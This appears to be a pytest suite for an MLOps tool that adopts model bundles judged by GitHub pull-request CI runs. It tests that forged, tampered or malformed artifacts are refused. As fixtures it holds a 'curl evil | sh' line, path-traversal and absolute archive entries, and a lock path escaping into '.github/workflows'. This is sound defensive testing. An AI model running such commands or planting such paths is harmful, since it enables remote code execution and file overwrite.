"""A bundle that a pull request's run judged is taken over as it is; what claims to be it and is not leaves nothing."""

from __future__ import annotations

import contextlib
import io
import json
import shutil
import stat
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlops.bundle.manifest import EVIDENCE, seal
from mlops.bundle.store import Store
from mlops.cli.main import run as run_verb
from mlops.errors import ConfigurationError, InfrastructureError, IntegrityError
from mlops.files.canonical import digest_file, dumps
from mlops.operations.dvc.lock import md5_tree
from mlops.operations.integrity.verify import verify
from mlops.operations.live.bundles import STORE
from mlops.operations.releasing import adopt as adopting
from mlops.operations.releasing.adopt import adopt
from mlops.operations.releasing.adopted import noted
from mlops.operations.reviewing import judged_runs
from mlops.operations.reviewing.github import Client
from mlops.operations.workspace import open_workspace
from tests.builders.judged import FOLDER, TOKEN, Judged, judged, prepare
from tests.builders.papers import write_papers
from tests.builders.repositories import commit, edit, git
from tests.runner.ran import pack

pytestmark = pytest.mark.slow

HINT = "something wrote into the artifact that its job left: look at the run, and at who changed what there"
MAKE = "`mlops run churn` makes one; judge it with `mlops gate churn --base`"
RUN = "https://github.com/shop/models/actions/runs/100"


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    folder = tmp_path_factory.mktemp("prepared")
    return folder, prepare(folder)


@pytest.fixture
def team(prepared: tuple[Path, str], tmp_path: Path) -> Iterator[Judged]:
    with judged(*prepared[:1], tmp_path, prepared[1]) as made:
        yield made


def untouched(team: Judged) -> bool:
    """Whether nothing of a refused artifact is left in the work tree or the store."""
    return git(team.root, "status", "--porcelain") == "" and not (team.root / STORE).exists()


def of(team: Judged) -> str | None:
    """What was noted as judged."""
    note = noted(team.root, open_workspace(team.root).pipeline("churn"))
    return None if note is None else note.judged


def test_the_judged_bundle_lock_and_reports_are_taken_over(team: Judged) -> None:
    found = adopt(team.root, "churn", team.client())
    assert (found.state, found.bundle, found.judged, found.run) == ("taken", team.bundle, team.bundle, RUN)
    assert verify(open_workspace(team.root)) == ()
    assert digest_file(team.root / FOLDER / "artifacts/bundle/manifest.json") == team.bundle
    assert Store(team.root / STORE).get(team.bundle).is_dir()
    assert (team.root / FOLDER / "dvc.lock").read_bytes() == (team.evidence / "dvc.lock").read_bytes()
    assert of(team) == team.bundle
    assert not (team.root / FOLDER / "reports/report.html").exists(), "what nobody commits is left where it is"


def test_a_second_time_it_is_here_and_nobody_is_asked(team: Judged) -> None:
    adopt(team.root, "churn", team.client())
    asked = len(team.api.calls)
    again = adopt(team.root, "churn", team.client())
    assert (again.state, again.bundle) == ("recorded", team.bundle)
    assert len(team.api.calls) == asked


def test_a_bundle_trained_at_home_and_judged_as_it_is_comes_from_where_it_is_kept(team: Judged) -> None:
    adopt(team.root, "churn", team.client())
    commit(team.root, "Record it")
    shutil.rmtree(team.root / ".mlops/judged")
    team.api.ran.expired.add("report-churn")
    found = adopt(team.root, "churn", team.client())
    assert (found.state, found.judged) == ("recorded", team.bundle)
    assert git(team.root, "status", "--porcelain") == ""


def test_a_committed_statement_that_no_run_made_is_not_taken_for_the_judged_one(team: Judged) -> None:
    """The same content, and a verdict that somebody wrote at home: the bundle's digest alone vouches for nothing."""
    adopt(team.root, "churn", team.client())
    reports = team.root / FOLDER / "reports"
    said = json.loads((reports / "gate.json").read_text()) | {"method": "by eye"}
    write_papers(reports, team.root / FOLDER / "artifacts/bundle", gate=said)
    relock(team.root / FOLDER)
    commit(team.root, "Record it otherwise")
    shutil.rmtree(team.root / ".mlops/judged")
    team.api.ran.expired.add("report-churn")
    with pytest.raises(InfrastructureError) as caught:
        adopt(team.root, "churn", team.client())
    assert "the artifact report-churn of run 100 of #7 is gone" in caught.value.message
    team.api.ran.expired.clear()
    assert adopt(team.root, "churn", team.client()).state == "taken"
    assert (reports / "gate.json").read_bytes() == (team.evidence / "gate.json").read_bytes()


def relock(folder: Path) -> None:
    """Let a lock say what lies there."""
    lock = yaml.safe_load((folder / "dvc.lock").read_text())
    for entry in (one for stage in lock["stages"].values() for kind in ("deps", "outs") for one in stage[kind]):
        if entry["path"].startswith("reports/") and (folder / entry["path"]).exists():
            entry["md5"] = md5_tree(folder / entry["path"])
    (folder / "dvc.lock").write_text(yaml.safe_dump(lock, sort_keys=False))


def test_the_verb_says_what_it_took(
    team: Judged, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(team.root)
    for key, value in (("TOKEN", TOKEN), ("REPOSITORY", "shop/models"), ("API_URL", team.api.url)):
        monkeypatch.setenv(f"GITHUB_{key}", value)
    assert run_verb(["adopt", "churn"]) == 0
    out, err = capsys.readouterr()
    assert out == f"churn {team.bundle}\n"
    assert err == f"its lock, reports and bundle are in the work tree: judged by {RUN}\n"
    monkeypatch.delenv("GITHUB_TOKEN")
    shutil.rmtree(team.root / ".mlops")
    git(team.root, "checkout", "-q", "--", ".")
    git(team.root, "clean", "-q", "-d", "-f", "pipelines")
    assert run_verb(["adopt", "churn"]) == 6
    assert capsys.readouterr().err == (
        "work: GitHub cannot be asked which run judged it\n"
        "hint: set GITHUB_TOKEN (it needs `actions: read`, `pull-requests: read`) and GITHUB_REPOSITORY=owner/name\n"
    )


def test_results_that_nobody_committed_are_not_overwritten(team: Judged) -> None:
    (team.root / FOLDER / "dvc.lock").write_text("schema: '2.0'\nstages: {}\n")
    with pytest.raises(ConfigurationError) as caught:
        adopt(team.root, "churn", team.client())
    assert caught.value.message == "pipelines/churn/dvc.lock has changes that are not committed"
    assert team.api.calls == []


# ── what is not what its job made ────────────────────────────────────────────────────────────────────────────────────


def flip(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(bytes(data))


def edit_lock(team: Judged, change: Callable[[dict[str, Any]], None]) -> None:
    path = team.evidence / "dvc.lock"
    lock = yaml.safe_load(path.read_text())
    change(lock)
    path.write_text(yaml.safe_dump(lock, sort_keys=False))


def a_byte(team: Judged) -> None:
    flip(team.evidence / "bundle" / "model.onnx")


def another_lock(team: Judged) -> None:
    (team.evidence / "dvc.lock").write_text("schema: '2.0'\nstages: {}\n")


def an_extra_file(team: Judged) -> None:
    (team.evidence / "run.sh").write_text("curl evil | sh\n")


def nothing_told(team: Judged) -> None:
    team.tell(**{"evidence-0": ""})


@pytest.mark.parametrize("change", [a_byte, another_lock, an_extra_file])
def test_an_artifact_that_its_job_did_not_make_is_refused(team: Judged, change: Callable[[Judged], None]) -> None:
    change(team)
    with pytest.raises(IntegrityError) as caught:
        adopt(team.root, "churn", team.client())
    assert caught.value.message == "report-churn: the artifact is not the one its job made"
    assert untouched(team)
    assert of(team) == team.bundle, "which bundle was judged is known all the same"


def test_an_artifact_that_no_job_told_of_is_refused(team: Judged) -> None:
    nothing_told(team)
    with pytest.raises(IntegrityError) as caught:
        adopt(team.root, "churn", team.client())
    assert caught.value.message == "report-churn: no job of this run says that it made this artifact"
    assert untouched(team)


def model(team: Judged) -> None:
    """Another model, sealed as a bundle of its own, in a lock that agrees."""
    bundle = team.evidence / "bundle"
    (bundle / "model.json").write_text("{}\n")
    (bundle / "manifest.json").unlink()
    seal(bundle, "churn", "binary")
    team.relock()


def scores(team: Judged) -> None:
    """A bundle that answers its golden rows otherwise than it says."""
    bundle = team.evidence / "bundle"
    golden = json.loads((bundle / "golden.json").read_text())
    golden["scores"] = [score / 2 for score in golden["scores"]]
    (bundle / "golden.json").write_text(json.dumps(golden))
    reseal(team)


def verdict(team: Judged) -> None:
    """A verdict that is no pass, under a statement that binds it."""
    reseal(team, verdict="fail")


def other_gate(team: Judged) -> None:
    """A verdict of other rules, without the statement that binds it."""
    gate = json.loads((team.evidence / "gate.json").read_text()) | {"method": "by eye"}
    (team.evidence / "gate.json").write_text(json.dumps(gate))
    team.relock()


def reseal(team: Judged, **gate: Any) -> None:
    """Forge the whole: bundle, reports, lock and what the job told agree with each other."""
    bundle = team.evidence / "bundle"
    (bundle / "manifest.json").unlink()
    seal(bundle, "churn", "binary")
    team.bundle = digest_file(bundle / "manifest.json")
    said = json.loads((team.evidence / "gate.json").read_text()) | {"bundle": team.bundle} | gate
    with contextlib.suppress(IntegrityError):  # what was forged is read again at once
        write_papers(team.evidence, bundle, gate=said)
    team.relock()


def earlier(team: Judged) -> None:
    """A bundle of version 1, which says itself that it passed: nothing that this commit runs writes one."""
    bundle = team.evidence / "bundle"
    (bundle / "manifest.json").unlink()
    for name in EVIDENCE:
        shutil.copy(team.evidence / name, bundle / name)
    files = {
        path.name: {"sha256": digest_file(path).removeprefix("sha256:"), "size": path.stat().st_size}
        for path in sorted(bundle.iterdir())
    }
    identity = {"code": {}, "configuration": "", "data": "", "gate": digest_file(bundle / "gate.json")}
    manifest = {"schema_version": 1, "pipeline": "churn", "task": "binary", "files": files, "identity": identity}
    (bundle / "manifest.json").write_text(dumps(manifest))
    team.bundle = digest_file(bundle / "manifest.json")
    said = json.loads((team.evidence / "gate.json").read_text()) | {"bundle": team.bundle}
    write_papers(team.evidence, bundle, gate=said)
    team.relock()


def test_what_cannot_be_compared_with_what_went_live_meanwhile_is_left_to_be_made_again(team: Judged) -> None:
    """Its test rows were on the machine of its job, and what it was compared with there is live no more."""
    (rule,) = json.loads((team.evidence / "gate.json").read_text())["rules"]
    reseal(team, rules=[rule, {**rule, "id": "over", "against": "champion", "verdict": "deferred"}])
    team.tell()
    release = team.root / "conf/release/prod/churn.yaml"
    release.parent.mkdir(parents=True)
    release.write_text("bundle: sha256:" + "a" * 64 + "\n")
    commit(team.root, "Another goes live")
    with pytest.raises(InfrastructureError) as caught:
        adopt(team.root, "churn", team.client())
    assert f"no commit records the run that made {team.bundle[:19]}…, and the live model is" in caught.value.message
    assert untouched(team)


def report(team: Judged) -> None:
    (team.evidence / "metrics.json").write_text("{}")


def escape(team: Judged) -> None:
    edit_lock(team, lambda lock: lock["stages"]["ingest"]["outs"][0].update(path="../../.github/workflows/x.yml"))


def command(team: Judged) -> None:
    edit_lock(team, lambda lock: lock["stages"]["ingest"]["outs"][0].update(cache=False))


def page(team: Judged) -> None:
    (team.evidence / "plots.html").write_text("<script>")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (model, "churn: the bundle in {place} is sha256:"),
        (scores, "8 of 8 golden rows score otherwise than when the bundle was made, "),
        (verdict, "churn: the gate that the statement about sha256:"),
        (other_gate, "churn: gate.json is not the one that the statement about sha256:"),
        (earlier, "churn: the bundle is of version 1, which this commit does not write"),
        (report, "churn: reports/metrics.json is not what the run wrote"),
        (escape, "churn: dvc.lock is not one that DVC wrote"),
        (command, "churn: dvc.lock is not one that DVC wrote"),
        (page, "churn: 'plots.html' is no output of a run"),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_a_forgery_that_its_job_vouches_for_is_held_against_itself(
    team: Judged, change: Callable[[Judged], None], message: str
) -> None:
    change(team)
    team.tell()
    with pytest.raises(IntegrityError) as caught:
        adopt(team.root, "churn", team.client())
    said = caught.value.message
    assert said.startswith(message) if "{" not in message else "but must be" in said, said
    assert untouched(team)


def archive(**files: bytes | zipfile.ZipInfo) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as opened:
        for name, data in files.items():
            opened.writestr(
                data if isinstance(data, zipfile.ZipInfo) else name, b"x" if not isinstance(data, bytes) else data
            )
    return target.getvalue()


def link() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("churn/link")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (archive(**{"../../x": b"x"}), "'../../x' in the archive leaves its folder, or has an empty part"),
        (archive(**{"/etc/x": b"x"}), "'/etc/x' in the archive is not relative to its folder"),
        (archive(**{"churn/a": b"x", "churn/A": b"x"}), "'churn/A' in the archive is there twice"),
        (archive(link=link()), "'churn/link' in the archive is not a plain file"),
        (b"PK\x03\x04 not an archive", "the archive is damaged"),
    ],
    ids=["traversal", "absolute", "twice", "link", "damaged"],
)
def test_an_archive_of_anything_but_plain_files_inside_is_refused(team: Judged, data: bytes, message: str) -> None:
    team.api.ran.zips["report-churn"] = data
    with pytest.raises(IntegrityError) as caught:
        adopt(team.root, "churn", team.client())
    assert caught.value.message == message
    assert untouched(team)


def test_an_artifact_without_end_is_refused_before_it_is_read(team: Judged, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judged_runs, "LARGEST", 1_000)
    monkeypatch.setattr(judged_runs.bring, "__defaults__", (1_000,))
    with pytest.raises(IntegrityError) as caught:
        adopt(team.root, "churn", team.client())
    assert caught.value.message == "the artifact report-churn of run 100 of #7 has more than 1,000 bytes"
    assert not [target for _, target in team.api.calls if target.endswith("/zip")][1:]


def test_an_artifact_that_unpacks_to_more_than_allowed_is_refused(
    team: Judged, monkeypatch: pytest.MonkeyPatch
) -> None:
    (team.evidence / "zeros.csv").write_bytes(b"0" * 10**6)
    monkeypatch.setattr(judged_runs.bring, "__defaults__", (len(pack(team.artifacts / "report-churn")) + 1,))
    with pytest.raises(IntegrityError) as caught:
        adopt(team.root, "churn", team.client())
    assert caught.value.message.startswith("the archive holds more than ")
    assert untouched(team)


# ── what cannot be had ───────────────────────────────────────────────────────────────────────────────────────────────


def refused(team: Judged) -> str:
    """Adopt in vain, and give the reason that was found for the newest commit."""
    with pytest.raises(InfrastructureError) as caught:
        adopt(team.root, "churn", team.client())
    first, reason, *_ = caught.value.message.split("\n  ")
    assert first == "churn: no bundle that was judged can be taken over"
    assert caught.value.hint == MAKE
    assert untouched(team)
    return reason


def test_an_artifact_that_is_gone_is_named_and_what_was_judged_is_still_known(team: Judged) -> None:
    team.api.ran.expired.add("report-churn")
    assert refused(team) == "the artifact report-churn of run 100 of #7 is gone"
    assert of(team) == team.bundle


def test_where_the_record_is_gone_too_nobody_knows_what_was_judged(team: Judged) -> None:
    team.api.ran.expired |= {"report-churn", "judged"}
    assert refused(team) == "the artifact judged of run 100 of #7 is gone"
    assert of(team) == "unknown"


def other_data(team: Judged) -> str:
    edit(team.root, f"{FOLDER}/data/churn.csv", "31", "32")
    return "churn: data/churn.csv is not the data that was learnt from"


def other_rules(team: Judged) -> str:
    edit(team.root, "conf/pipeline/churn.yaml", "at_least: 0.7", "at_least: 0.6")
    return "churn: gate was recorded with another configuration"


@pytest.mark.parametrize("change", [other_data, other_rules])
def test_what_was_judged_for_other_inputs_does_not_count(team: Judged, change: Callable[[Judged], str]) -> None:
    expected = change(team)
    team.api.ran.merged(commit(team.root, "Merge something else as well"), 8, team.head)
    if change is other_rules:  # it changes no file of the pipeline's folder that the last commits are chosen by
        team.api.ran.commits |= {git(team.root, "rev-parse", "HEAD~1").strip(): team.api.ran.pulls[:1]}
    assert refused(team) == expected


def a_fork(team: Judged) -> str:
    team.api.ran.pulls[0]["head"]["repo"] = {"full_name": "stranger/models"}
    return "#7 came from a fork, or its repository is gone"


def a_direct_push(team: Judged) -> str:
    team.api.ran.commits.clear()
    return f"{git(team.root, 'rev-parse', 'HEAD').strip()[:8]} came with no pull request"


def two_runs(team: Judged) -> str:
    team.api.ran.ended({**team.api.ran.runs[0]}, {"verdict": "success"}, team.artifacts)
    return "aaaaaaaa was judged by more than one run"


def no_run(team: Judged) -> str:
    team.api.ran.runs[0]["head_sha"] = "b" * 40
    return "aaaaaaaa was judged by no run"


def another_workflow(team: Judged) -> str:
    team.api.ran.runs[0]["path"] = ".github/workflows/other.yml"
    return "aaaaaaaa was judged by no run"


def another_branch(team: Judged) -> str:
    team.api.ran.runs[0]["head_branch"] = "elsewhere"
    return "the run of aaaaaaaa is of another branch than #7"


def another_base(team: Judged) -> str:
    """A pull request of the same head into a branch that nobody reviews brings a workflow of that branch's."""
    team.api.ran.pulls.append({**team.api.ran.pulls[0], "number": 6, "base": {"ref": "evil"}})
    return "the branch of #7 was proposed into other branches too"


def base_changed(team: Judged) -> str:
    team.api.ran.events[7] = [{"event": "labeled"}, {"event": "base_ref_changed"}]
    return "the base branch of #7 was changed"


def red(team: Judged) -> str:
    team.api.ran.runs[0]["jobs"]["verdict"] = "failure"
    return "the job `verdict` of run 100 of #7 did not succeed"


def nothing_written_down(team: Judged) -> str:
    del team.api.ran.runs[0]["jobs"]["What was judged"]
    return "the job `What was judged` of run 100 of #7 did not succeed"


def not_merged(team: Judged) -> str:
    team.api.ran.pulls[0]["merged_at"] = None
    return f"{git(team.root, 'rev-parse', 'HEAD').strip()[:8]} came with no pull request"


RUNS = [
    a_fork,
    a_direct_push,
    two_runs,
    no_run,
    another_workflow,
    another_branch,
    another_base,
    base_changed,
    red,
    nothing_written_down,
    not_merged,
]


@pytest.mark.parametrize("change", RUNS)
def test_a_run_counts_only_where_nothing_else_can_have_been_meant(
    team: Judged, change: Callable[[Judged], str]
) -> None:
    expected = change(team)
    assert refused(team) == expected
    assert of(team) == "unknown"


def test_a_job_that_still_runs_is_waited_for_and_not_for_ever(team: Judged) -> None:
    waits: list[float] = []
    jobs = team.api.ran.runs[0]["jobs"]

    def wait(seconds: float) -> None:
        waits.append(seconds)
        jobs["What was judged"] = "success" if len(waits) == 2 else None

    client = Client("shop/models", TOKEN, team.api.url, wait=wait)
    jobs["What was judged"] = None
    assert adopt(team.root, "churn", client).state == "taken"
    assert waits == [15.0, 15.0]
    waits += [0.0] * 10
    jobs["What was judged"] = None
    with pytest.raises(InfrastructureError, match="the job `What was judged` of run 100 of #7 did not succeed"):
        judged_runs.judged_run(client, "main", git(team.root, "rev-parse", "HEAD").strip())
    assert waits[12:] == [15.0] * 9


def test_a_superseded_run_is_no_second_one(team: Judged) -> None:
    team.api.ran.ended({**team.api.ran.runs[0], "conclusion": "cancelled"}, {}, team.artifacts)
    assert adopt(team.root, "churn", team.client()).state == "taken"


def test_a_run_of_the_merge_queue_is_of_the_very_commit(team: Judged) -> None:
    """Whatever its pull request was before: what the queue judged is what the main branch is."""
    team.api.ran.runs[0] |= {"event": "merge_group", "head_sha": git(team.root, "rev-parse", "HEAD").strip()}
    team.api.ran.commits.clear()
    found = adopt(team.root, "churn", team.client())
    assert (found.state, found.judged) == ("taken", team.bundle)


def test_an_api_that_does_not_answer_is_asked_about_one_commit_only(team: Judged) -> None:
    commit(team.root, "Another")
    client = team.client()
    team.api.__exit__(None, None, None)
    try:
        with pytest.raises(InfrastructureError) as caught:
            adopt(team.root, "churn", client)
    finally:
        team.api.__enter__()
    assert caught.value.message.startswith("churn: no bundle that was judged can be taken over\n  http://127.0.0.1:")
    assert len(caught.value.message.splitlines()) == 2
    assert of(team) == "unknown"


def test_a_token_that_may_not_read_runs_is_told_what_it_lacks(team: Judged) -> None:
    team.api.tokens[TOKEN] = {"pull-requests": "read"}
    assert refused(team).endswith(": HTTP 403")


def test_no_more_than_the_last_commits_are_looked_at(team: Judged) -> None:
    for number in range(adopting._COMMITS):
        (team.root / FOLDER / "notes.md").write_text(f"{number}\n")
        commit(team.root, f"Note {number}")
    refused(team)
    assert len({target for _, target in team.api.calls if "/commits/" in target}) == adopting._COMMITS
